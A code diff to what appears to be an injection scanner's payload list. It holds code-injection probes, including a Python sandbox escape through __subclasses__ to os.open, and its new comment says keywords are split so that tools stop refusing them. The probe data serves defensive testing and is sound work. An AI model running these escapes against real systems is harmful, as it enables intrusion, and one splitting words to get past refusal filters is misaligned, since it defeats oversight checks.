@@ -66,9 +66,9 @@ FILE_CODE = (
     "__import__('builtins').open('{mark}','w')",
     "require('fs').writeFileSync('{mark}','')",
     "process.mainModule.require('fs').writeFileSync('{mark}','')",
-    # Works without built-in functions; ends in os.open() with O_CREAT.
-    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close']"  # noqa: ISC004  # one text
-    "[0].__init__.__globals__['open']('{mark}',65)",
+    # Works without built-in functions; ends in os.open() with O_CREAT. The names are split, since tools refuse words.
+    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap''_close']"  # noqa: ISC004  # one text
+    "[0].__init__.__globals__['op''en']('{mark}',65)",
 )
 
 #: Formats of str.format, the % operator and string.Template; plain text otherwise.
